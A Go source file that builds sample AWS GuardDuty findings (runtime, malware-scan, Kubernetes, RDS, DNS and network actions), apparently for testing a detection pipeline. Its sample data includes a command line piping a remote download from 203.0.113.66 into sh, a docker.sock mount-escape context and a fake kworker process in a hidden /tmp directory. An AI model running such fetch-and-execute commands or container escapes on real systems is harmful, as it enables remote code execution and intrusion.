//go:build !lambda.norpc

package guardduty

import (
	"strings"
	"time"
)

// service gives "service": when, how often and what was done.
func (s sample) service(detector string) object {
	service := object{
		"serviceName": "guardduty", "detectorId": detector, "archived": false, "count": 3, "resourceRole": "TARGET",
		"eventFirstSeen": s.ago(30 * time.Minute), "eventLastSeen": s.ago(2 * time.Minute),
		"additionalInfo": object{"sample": true, "value": `{"sample":true}`, "type": "default"},
	}
	switch {
	case s.ResourceType == "AttackSequence", s.ResourceType == "CustomDetectionRule":
		service["detection"] = object{"sequence": s.sequence()}
		for _, absent := range []string{"resourceRole", "eventFirstSeen", "eventLastSeen"} {
			delete(service, absent)
		}
	case s.isMalwareOnVolume():
		service["ebsVolumeScanDetails"] = s.volumeScan()
	case s.isMalware():
		service["malwareScanDetails"] = s.objectScan()
	case s.family == "Runtime":
		service["runtimeDetails"] = object{"process": object{
			"name": "kworker", "executablePath": "/tmp/.x/kworker", "executableSha256": s.digest, "pid": 4711, "user": "root",
			"startTime": s.ago(31 * time.Minute), "pwd": "/tmp/.x",
		}, "context": s.runtimeContext()}
		delete(service, "resourceRole")
	default:
		service["action"] = s.action()
	}
	return service
}

// runtimeContext gives what the process did, where the type tells.
func (s sample) runtimeContext() object {
	switch {
	case strings.Contains(s.artefact, "Command"), strings.Contains(s.artefact, "Shell"), strings.Contains(s.artefact, "Tool"):
		return object{"commandLineExample": "sh -c 'curl -s http://203.0.113.66/x | sh'"}
	case strings.Contains(s.artefact, "Injection"):
		return object{"targetProcess": object{"name": "sshd", "executablePath": "/usr/sbin/sshd", "pid": 812}}
	case strings.Contains(s.artefact, "Mount"), strings.Contains(s.artefact, "Docker"), strings.Contains(s.artefact, "Escape"):
		return object{"mountSource": "/var/run/docker.sock", "mountTarget": "/host.sock"}
	case strings.Contains(s.artefact, "File"), strings.Contains(s.artefact, "Binary"), strings.Contains(s.artefact, "Miner"):
		return object{"threatFilePath": "/tmp/.x/kworker"}
	case strings.Contains(s.artefact, "Module"):
		return object{"moduleName": "example_rootkit", "moduleFilePath": "/tmp/.x/example_rootkit.ko"}
	}
	return object{}
}

func (s sample) isMalware() bool {
	return strings.Contains(s.artefact, "MaliciousFile") || strings.Contains(s.artefact, "SuspiciousFile")
}

// isMalwareOnVolume reports whether a scan of EBS volumes found it.
func (s sample) isMalwareOnVolume() bool {
	switch s.ResourceType {
	case "Instance", "EKSCluster", "ECSCluster", "Container":
		return s.isMalware()
	}
	return false
}

func (s sample) addScannedVolume(resource object) {
	if s.isMalwareOnVolume() {
		resource["ebsVolumeDetails"] = object{"scannedVolumeDetails": []object{{
			"volumeArn": s.arn("ec2", "volume/vol-99999999"), "deviceName": "/dev/xvda", "volumeType": "gp3", "volumeSizeInGB": 20,
			"encryptionType": "UNENCRYPTED",
		}}}
	}
}

func (s sample) volumeScan() object {
	return object{
		"scanId": s.digest[:32], "scanType": "GUARDDUTY_INITIATED", "scanStartedAt": s.ago(20 * time.Minute), "scanCompletedAt": s.ago(10 * time.Minute),
		"scanDetections": object{"threatDetectedByName": object{
			"itemCount": 1, "uniqueThreatNameCount": 1, "shortened": false,
			"threatNames": []object{{"name": "EICAR-Test-File", "severity": "HIGH", "itemCount": 1, "filePaths": []object{{
				"filePath": "/tmp/eicar.com", "fileName": "eicar.com", "volumeArn": s.arn("ec2", "volume/vol-99999999"), "hash": s.digest,
			}}}},
		}},
	}
}

func (s sample) objectScan() object {
	return object{
		"scanId": s.digest[:32], "scanType": "GUARDDUTY_INITIATED", "uniqueThreatCount": 1,
		"threats": []object{{"name": "EICAR-Test-File", "source": "AMAZON", "count": 1, "hash": s.digest, "itemPaths": []object{{"nestedItemPath": "2026-03.zip/eicar.com", "hash": s.digest}}}},
	}
}

// action gives the action that fits the type.
func (s sample) action() object {
	switch {
	case s.family == "Kubernetes":
		return object{"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": object{
			"verb": "create", "resource": "pods", "namespace": "default", "resourceName": "debug-shell", "requestUri": "/api/v1/namespaces/default/pods",
			"statusCode": 201, "sourceIPs": []string{remoteIP}, "userAgent": "kubectl/v1.31", "remoteIpDetails": remote(),
		}}
	case s.family == "RDS":
		return object{"actionType": "RDS_LOGIN_ATTEMPT", "rdsLoginAttemptAction": object{
			"remoteIpDetails": remote(), "LoginAttributes": []object{{
				"user": "reporting", "application": "mysql", "failedLoginAttempts": 40, "successfulLoginAttempts": 1,
			}},
		}}
	case s.ResourceType == "AccessKey", s.ResourceType == "S3Bucket":
		return object{"actionType": "AWS_API_CALL", "awsApiCallAction": object{
			"api": s.api(), "serviceName": s.apiService(), "callerType": "Remote IP", "remoteIpDetails": remote(), "userAgent": "aws-cli/2.27",
		}}
	case strings.Contains(s.artefact, "DNS"), strings.Contains(s.artefact, "Domain"):
		return object{"actionType": "DNS_REQUEST", "dnsRequestAction": object{"domain": "GeneratedFindingDomain.example.net", "protocol": "UDP", "blocked": false}}
	case strings.Contains(s.artefact, "PortProbe"):
		return object{"actionType": "PORT_PROBE", "portProbeAction": object{"blocked": false, "portProbeDetails": []object{{
			"localPortDetails": object{"port": 22, "portName": "SSH"}, "localIpDetails": object{"ipAddressV4": "10.0.0.12"}, "remoteIpDetails": remote(),
		}}}}
	}
	return object{"actionType": "NETWORK_CONNECTION", "networkConnectionAction": object{
		"connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false, "localPortDetails": object{"port": 39677, "portName": "Unknown"},
		"remotePortDetails": object{"port": 443, "portName": "HTTPS"}, "localIpDetails": object{"ipAddressV4": "10.0.0.12"}, "remoteIpDetails": remote(),
	}}
}

func (s sample) api() string {
	switch {
	case s.ResourceType == "S3Bucket":
		return "PutBucketPolicy"
	case strings.HasPrefix(s.artefact, "ConsoleLogin"):
		return "ConsoleLogin"
	}
	return "DescribeInstances"
}

func (s sample) apiService() string {
	switch {
	case s.ResourceType == "S3Bucket":
		return "s3.amazonaws.com"
	case strings.HasPrefix(s.artefact, "ConsoleLogin"):
		return "signin.amazonaws.com"
	}
	return "ec2.amazonaws.com"
}

func remote() object {
	return object{
		"ipAddressV4": remoteIP, "country": object{"countryName": "GeneratedFindingCountryName"}, "city": object{"cityName": "GeneratedFindingCityName"},
		"geoLocation": object{"lat": 0.0, "lon": 0.0}, "organization": object{"asn": "64500", "asnOrg": "Example Telecom", "isp": "Example Telecom", "org": "Example Telecom"},
	}
}
